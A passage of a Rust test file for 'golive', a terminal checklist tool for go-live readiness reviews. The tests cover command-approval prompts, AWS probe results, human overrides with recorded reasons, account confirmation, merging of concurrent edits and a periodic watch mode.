        common::reload(&mut a, |s| {
            s.target.commands.insert("unit".into(), "make test".into());
            s.target.repo = Some("/elsewhere".into());
        });
        typed(&mut a, "A");
        assert!(
            matches!(a.input(), Some(Input::Confirm(ConfirmKind::RunCommand { .. }))),
            "asked in a new repo"
        );
    }

    /// A session from someone else's branch that carries its own approval approves nothing.
    #[test]
    fn approvals_a_session_carries_are_not_honoured() {
        let mut s =
            golive::session::Session::new(&golive::checklist::Checklist::embedded(), common::fixed_now());
        s.carried_approvals = vec!["./rollback.sh --dry-run".into()];
        s.target.repo = Some(".".into());
        let mut a = common::app_with(s);
        assert!(a.allowed_commands().is_empty());
        assert!(typed(&mut a, "A").is_empty());
        assert!(matches!(a.input(), Some(Input::Confirm(ConfirmKind::RunCommand { .. }))));
    }

    /// A probe that checks a part of its item does not tick it: "probe: pass, confirm", and a
    /// person ticks it with one key (52bd361 ticked it by probe).
    #[test]
    fn a_partial_pass_waits_for_a_person_and_p_ticks_it() {
        let mut a = app();
        let least = idx(&a, "security.least-privilege");
        assert!(!a.checklist().items[least].decided_by_probe);
        while a.nav().selected != least {
            typed(&mut a, "j");
        }
        sweep_all(&mut a);
        let fx = a.update(Msg::Probe {
            item: least,
            run: 1,
            event: Event::Done(result(Outcome::Pass, "no wildcard")),
        });
        assert_eq!(fx, vec![Effect::Save]);
        let rec = a.session().record("security.least-privilege").unwrap();
        assert_eq!((rec.status, rec.status_by_probe, rec.by.as_deref()), (Status::Todo, false, None));
        let text = common::screen_text(&common::render(&mut a, 200, 50));
        assert!(text.contains("probe: pass, confirm"), "{text}");
        // The person confirms the pass with p: no question, their name on it.
        assert!(typed(&mut a, "p").contains(&Effect::Save));
        let rec = a.session().record("security.least-privilege").unwrap();
        assert_eq!(
            (rec.status, rec.status_by_probe, rec.by.as_deref()),
            (Status::Pass, false, Some("alice"))
        );
        // A fail is always the probe's to set.
        let mut b = app();
        sweep_all(&mut b);
        b.update(Msg::Probe { item: least, run: 1, event: Event::Done(result(Outcome::Fail, "s3:*")) });
        assert_eq!(b.session().status("security.least-privilege"), Status::Fail);
    }

    /// The end of a sweep says what it found in counts, not the last item's word.
    #[test]
    fn a_finished_sweep_says_its_counts() {
        let mut a = app();
        let (slr, least) = (idx(&a, "security.service-linked-roles"), idx(&a, "security.least-privilege"));
        typed(&mut a, "1");
        typed(&mut a, "R");
        let section: Vec<usize> = a.runs().running.keys().copied().collect();
        let n = section.len();
        assert!(n >= 3, "{section:?}");
        for (k, &item) in section.iter().enumerate() {
            let outcome = if item == least {
                Outcome::Fail
            } else if item == slr {
                Outcome::Pass
            } else if k % 2 == 0 {
                Outcome::NeedsConfig
            } else {
                Outcome::Error
            };
            a.update(Msg::Probe { item, run: 1, event: Event::Done(result(outcome, "x")) });
        }
        let text = &a.flash().unwrap().text;
        assert!(text.starts_with(&format!("Probes done, {n} checks: 1 pass, 1 fail, ")), "{text}");
        assert!(text.contains(" error") && text.contains(" needs-config"), "{text}");
    }

    #[test]
    fn results_set_the_status_and_stale_runs_are_ignored() {
        let mut a = app();
        let slr = idx(&a, "security.service-linked-roles");
        sweep_all(&mut a);
        a.update(Msg::Probe { item: slr, run: 1, event: Event::Started });
        assert_eq!(a.runs().running[&slr], (1, true));
        // A result from an older run changes nothing.
        assert!(
            a.update(Msg::Probe { item: slr, run: 0, event: Event::Done(result(Outcome::Fail, "old")) })
                .is_empty()
        );
        let fx = a.update(Msg::Probe {
            item: slr,
            run: 1,
            event: Event::Done(result(Outcome::Pass, "the caller is the assumed role ops")),
        });
        assert_eq!(fx, vec![Effect::Save]);
        let rec = a.session().record("security.service-linked-roles").unwrap();
        assert_eq!(
            (rec.status, rec.status_by_probe, rec.by.as_deref()),
            (Status::Pass, true, Some("probe aws.iam.service-role"))
        );
        assert!(!a.runs().running.contains_key(&slr));
        // A later run keeps the earlier result as history.
        sweep_all(&mut a);
        a.update(Msg::Probe {
            item: slr,
            run: 2,
            event: Event::Done(result(Outcome::Error, "timed out after 15 s")),
        });
        let rec = a.session().record("security.service-linked-roles").unwrap();
        assert_eq!(rec.status, Status::Todo, "an undecided probe leaves the item for a person");
        assert_eq!(rec.probe_history.len(), 1);
        assert_eq!(rec.probe_history[0].outcome, Outcome::Pass);
    }

    #[test]
    fn a_persons_status_wins_and_overriding_a_verdict_asks_why() {
        let mut a = app();
        let slr = idx(&a, "security.service-linked-roles");
        typed(&mut a, "jjjjjj");
        assert_eq!(a.item_id(), "security.service-linked-roles");
        typed(&mut a, "b");
        typed(&mut a, "r");
        a.update(Msg::Probe {
            item: slr,
            run: 1,
            event: Event::Done(result(Outcome::Fail, "the caller is the IAM user ci")),
        });
        assert_eq!(
            a.session().status("security.service-linked-roles"),
            Status::Blocked,
            "set by a person: kept"
        );
        // Saying pass against the probe's fail needs a reason.
        assert!(typed(&mut a, "p").is_empty());
        assert_eq!(a.key_scope(), KeyScope::Prompt);
        typed(&mut a, "CI user is being replaced today");
        assert_eq!(press(&mut a, KeyCode::Enter), vec![Effect::Save]);
        let rec = a.session().record("security.service-linked-roles").unwrap();
        assert_eq!(
            (rec.status, rec.reason.as_deref()),
            (Status::Pass, Some("CI user is being replaced today"))
        );
        let md = golive::export::markdown::render(
            a.checklist(),
            a.session(),
            &golive::export::markdown::Meta {
                session_path: "s.toml",
                generated: common::fixed_now(),
                full_evidence: false,
                decision: a.decision(),
                files: &[],
            },
        );
        assert!(
            md.contains("Status: **pass** by alice at 2026-11-25T09:30:00Z; reason: CI user is being replaced today (probe: fail; set to pass by alice)"),
            "{md}"
        );
        assert!(
            md.contains("  Probe: ✗ fail: the caller is the IAM user ci (2026-11-25T09:30:00Z, 12 ms)"),
            "{md}"
        );
    }

    #[test]
    fn esc_cancels_a_sweep_and_late_results_are_dropped() {
        let mut a = app();
        let slr = idx(&a, "security.service-linked-roles");
        sweep_all(&mut a);
        assert_eq!(press(&mut a, KeyCode::Esc), vec![Effect::CancelProbes]);
        assert!(a.runs().running.is_empty());
        let n = a.checklist().items.iter().filter(|i| i.is_automated()).count();
        assert_eq!(a.flash().as_ref().unwrap().text, format!("Cancelled {n} probes."));
        assert!(
            a.update(Msg::Probe { item: slr, run: 1, event: Event::Done(result(Outcome::Pass, "late")) })
                .is_empty()
        );
        assert!(a.session().record("security.service-linked-roles").is_none());
        assert!(press(&mut a, KeyCode::Esc).is_empty(), "nothing to cancel");
    }

    #[test]
    fn the_first_account_is_confirmed_before_probing_it() {
        let mut a = app();
        sweep_all(&mut a);
        // The runner holds the AWS probes back while it asks: they record nothing.
        let slr = idx(&a, "security.service-linked-roles");
        assert!(a.update(Msg::Probe { item: slr, run: 1, event: Event::Skipped }).is_empty());
        assert!(!a.runs().running.contains_key(&slr));
        assert!(a.session().record("security.service-linked-roles").is_none_or(|r| r.probe.is_none()));
        a.update(Msg::Aws(AwsView::Unconfirmed(identity())));
        assert!(matches!(a.input(), Some(Input::Confirm(ConfirmKind::TrustAccount { .. }))));
        let fx = typed(&mut a, "y");
        assert_eq!(a.session().target.account_id.as_deref(), Some("123456789012"));
        assert_eq!(fx[0], Effect::Save);
        let n = a.checklist().items.iter().filter(|i| i.is_automated()).count();
        assert!(matches!(&fx[1], Effect::RunProbes { run: 2, items } if items.len() == n), "{fx:?}");
        // Saying no leaves the account unset and says what that means.
        let mut b = app();
        sweep_all(&mut b);
        b.update(Msg::Aws(AwsView::Unconfirmed(identity())));
        assert!(typed(&mut b, "n").is_empty());
        assert_eq!(b.session().target.account_id, None);
        assert!(b.flash().as_ref().unwrap().text.contains("not trusted"));
    }

    #[test]
    fn the_target_form_edits_profile_region_and_account() {
        let mut a = app();
        typed(&mut a, "t");
        assert_eq!(a.key_scope(), KeyScope::Form);
        typed(&mut a, "prod-admin");
        // Enter goes to the next field: a half-filled form is never saved by it.
        assert!(press(&mut a, KeyCode::Enter).is_empty());
        assert_eq!(a.key_scope(), KeyScope::Form);
        assert_eq!(a.session().target.profile, None);
        typed(&mut a, "eu-west-1");
        press(&mut a, KeyCode::Tab);
        typed(&mut a, "1234");
        assert!(a.update(ctrl('s')).is_empty(), "12 digits or nothing");
        assert_eq!(a.key_scope(), KeyScope::Form);
        // The error shows inside the form, which covers the footer.
        let screen = common::screen_text(&common::render(&mut a, 100, 40));
        let inside = screen.lines().any(|l| l.contains('║') && l.contains("not \"1234\""));
        assert!(inside, "{screen}");
        typed(&mut a, "56789012");
        press(&mut a, KeyCode::Tab);
        typed(&mut a, "agent-");
        press(&mut a, KeyCode::Tab);
        typed(&mut a, "app=agent-service, team");
        press(&mut a, KeyCode::Tab);
        typed(&mut a, "CostCenter");
        press(&mut a, KeyCode::Tab);
        typed(&mut a, "agent-task");
        for _ in 0..2 {
            press(&mut a, KeyCode::Tab);
        }
        typed(&mut a, "agent/api-key, agent/db");
        assert_eq!(a.update(ctrl('s')), vec![Effect::Save]);
        let t = &a.session().target;
        assert_eq!((t.name_prefix.as_deref(), t.task_role.as_deref()), (Some("agent-"), Some("agent-task")));
        assert_eq!(t.secrets, ["agent/api-key", "agent/db"]);
        assert_eq!(
            (t.tags.as_slice(), t.cost_tags.as_slice()),
            (&["app=agent-service".to_string(), "team".into()][..], &["CostCenter".to_string()][..])
        );
        assert_eq!(t.tag_filter(), [("app".into(), Some("agent-service".into())), ("team".into(), None)]);
        assert_eq!(
            (t.profile.as_deref(), t.region.as_deref(), t.account_id.as_deref()),
            (Some("prod-admin"), Some("eu-west-1"), Some("123456789012"))
        );
        // Esc leaves it as it was.
        typed(&mut a, "t");
        typed(&mut a, "xyz");
        press(&mut a, KeyCode::Esc);
        assert_eq!(a.session().target.profile.as_deref(), Some("prod-admin"));
    }
}

/// The frame's counts come from one pass over the answers; they must equal counting item by item.
#[test]
fn progress_counts_equal_a_tally_per_item() {
    use golive::session::Status;
    use golive::session::progress::{Progress, Tally};
    let c = golive::checklist::Checklist::embedded();
    let mut s = golive::session::Session::new(&c, chrono::Utc::now());
    let statuses = [Status::Pass, Status::Fail, Status::Blocked, Status::NotApplicable, Status::Todo];
    for (n, item) in c.items.iter().enumerate().filter(|(n, _)| n % 3 != 0) {
        s.record_mut(&item.id).status = statuses[n % statuses.len()];
    }
    // An answer to an item the checklist no longer has counts nowhere.
    s.record_mut("gone.item").status = Status::Pass;
    let p = Progress::of(&c, &s);
    for (n, section) in c.sections.iter().enumerate() {
        let items = &c.items[section.items.clone()];
        assert_eq!(p.sections[n], Tally::of(items, &s));
        assert_eq!(p.sections_critical[n], Tally::of(items.iter().filter(|i| i.critical), &s));
    }
    assert_eq!(p.total, Tally::of(&c.items, &s));
    assert_eq!(p.critical, Tally::of(c.items.iter().filter(|i| i.critical), &s));
    assert!(p.total.pass > 0 && p.total.fail > 0 && p.critical.total() == 12);
}

/// Someone else's save lands while alice works: their changes appear (selection and view kept),
/// and a field both changed is asked about: theirs, mine, or later.
#[test]
fn others_changes_land_without_moving_the_selection_and_a_field_both_changed_is_asked() {
    use golive::session::merge::merge;
    use golive::session::{Change, Status};
    use golive::tui::app::{Input, Merge};
    let mut app = common::app();
    typed(&mut app, "jj");
    let selected = app.nav().selected;
    let base = app.session().clone();
    // Alice answers one item; bob, elsewhere, another, and the same one differently.
    typed(&mut app, "p");
    let mine = app.session().clone();
    let mut theirs = base.clone();
    let bob =
        golive::session::edit::By { who: "bob", at: common::fixed_now() + chrono::TimeDelta::minutes(1) };
    theirs.set_status("reliability.multi-az-deployment", Status::Fail, None, bob);
    let id = mine.history.last().unwrap().item.clone().unwrap();
    theirs.set_status(&id, Status::Blocked, None, bob);
    // What the saver does: the file's version merged with bob's; then the app is told.
    let merged = merge(&base, &mine, &theirs);
    assert_eq!(merged.conflicts.len(), 1);
    let fx = app.update(Msg::Merged(Box::new(Merge {
        base: mine.clone(),
        merged: merged.session,
        conflicts: merged.conflicts,
        seen: 1,
        disk: None,
    })));
    assert!(fx.is_empty(), "nothing of alice's is missing from what the saver wrote: {fx:?}");
    assert_eq!(app.nav().selected, selected, "the selection stays");
    assert_eq!(app.session().status("reliability.multi-az-deployment"), Status::Fail);
    assert_eq!(app.team().seen, 1);
    assert!(matches!(app.input(), Some(Input::Merged)), "asked about the field both changed");
    assert_eq!(app.session().status(&id), Status::Blocked, "the later answer, bob's, until she says");
    let screen = common::screen_text(&common::render(&mut app, 100, 30));
    assert!(screen.contains("yours:  pass (alice"), "{screen}");
    assert!(screen.contains("theirs: blocked (bob"), "{screen}");
    // m: hers after all; saved, with a history line saying so.
    let fx = typed(&mut app, "m");
    assert_eq!(fx, [Effect::Save]);
    assert_eq!(app.session().status(&id), Status::Pass);
    let last: &Change = app.session().history.last().unwrap();
    assert_eq!((last.by.as_str(), last.change.as_str()), ("alice", "merge: status mine kept"));
    assert!(app.input().is_none() && app.team().pending.is_empty());
}

/// Someone else's notes for the item being typed into land: the editor is left alone, and when
/// the person finishes, both texts are kept.
#[test]
fn notes_merged_in_while_typing_are_kept_below_what_was_typed() {
    use golive::session::merge::merge;
    use golive::tui::app::{Input, Merge};
    let mut app = common::app();
    let id = app.checklist().items[app.nav().selected].id.clone();
    let base = app.session().clone();
    typed(&mut app, "e");
    typed(&mut app, "alice: p95 180 ms");
    app.update(Msg::Idle);
    let mut theirs = base.clone();
    theirs.record_mut(&id).notes = "bob: dashboards linked".into();
    let m = merge(&base, &base, &theirs);
    app.update(Msg::Merged(Box::new(Merge {
        base,
        merged: m.session,
        conflicts: m.conflicts,
        seen: 1,
        disk: None,
    })));
    assert!(matches!(app.input(), Some(Input::Notes { .. })), "the editor stays open");
    typed(&mut app, " at 500 rps");
    let fx = app.update(common::key(KeyCode::Esc));
    assert!(fx.contains(&Effect::Save));
    let notes = app.session().record(&id).unwrap().notes.clone();
    assert!(notes.starts_with("alice: p95 180 ms at 500 rps"), "{notes}");
    assert!(notes.ends_with("bob: dashboards linked"), "{notes}");
    assert!(app.team().pending.is_empty());
}

static WATCH_CLOCK: std::sync::atomic::AtomicI64 = std::sync::atomic::AtomicI64::new(0);

fn watch_clock() -> chrono::DateTime<chrono::Utc> {
    common::fixed_now() + chrono::TimeDelta::seconds(WATCH_CLOCK.load(std::sync::atomic::Ordering::SeqCst))
}

/// `W`: every probe again each interval while golive is open; a change is told once, with the bell
/// for bad news; the same state next time is no news; each sweep is in the run log.
#[test]
fn the_watch_toggle_tells_each_change_once() {
    use golive::probe::{Outcome, ProbeResult};
    use golive::tui::app::FlashLevel;
    let c = golive::checklist::Checklist::embedded();
    let session = golive::session::Session::new(&c, common::fixed_now());
    let mut app = golive::tui::app::App::new(c, session, "/srv/s.toml".into(), "alice".into(), watch_clock)
        .with_watch_every(60);
    app.update(Msg::Resize(120, 40));
    let broken = "observability.log-retention";
    // One sweep: every item's probes answered, `broken` failing from `from_sweep` on.
    let sweep = |app: &mut golive::tui::app::App, fx: Vec<Effect>, fail: bool| -> Vec<Effect> {
        let Some(Effect::RunProbes { run, items }) =
            fx.into_iter().find(|e| matches!(e, Effect::RunProbes { .. }))
        else {
            panic!("no sweep started")
        };
        let mut out = Vec::new();
        for item in items {
            let id = app.checklist().items[item].id.clone();
            let (outcome, evidence) = if fail && id == broken {
                (Outcome::Fail, vec!["✗ log group agent-app: never expires".to_string()])
            } else {
                (Outcome::Pass, vec![])
            };
            let result =
                ProbeResult { outcome, summary: "s".into(), evidence, at: watch_clock(), duration_ms: 1 };
            out = app.update(Msg::Probe { item, run, event: golive::probe::engine::Event::Done(result) });
        }
        out
    };
    let fx = typed(&mut app, "W");
    assert!(app.watching().on);
    let end = sweep(&mut app, fx, false);
    assert!(!end.contains(&Effect::Bell));
    // Not yet due: nothing starts.
    WATCH_CLOCK.store(30, std::sync::atomic::Ordering::SeqCst);
    assert!(app.update(Msg::Idle).is_empty());
    WATCH_CLOCK.store(61, std::sync::atomic::Ordering::SeqCst);
    let fx = app.update(Msg::Idle);
    let end = sweep(&mut app, fx, true);
    assert!(end.contains(&Effect::Bell), "{end:?}");
    let flash = app.flash().unwrap();
    assert_eq!(flash.level, FlashLevel::Error);
    assert!(
        flash.text.starts_with("Watch: Log Retention (observability.log-retention): pass -> fail"),
        "{}",
        flash.text
    );
    assert!(flash.text.contains("agent-app"), "{}", flash.text);
    WATCH_CLOCK.store(122, std::sync::atomic::Ordering::SeqCst);
    let fx = app.update(Msg::Idle);
    let end = sweep(&mut app, fx, true);
    assert!(!end.contains(&Effect::Bell), "still failing is no news");
    let changes: Vec<usize> = app.session().sweeps.iter().map(|s| s.changes).collect();
    assert_eq!(changes, [0, 1, 0]);
    typed(&mut app, "W");
    assert!(!app.watching().on);
}
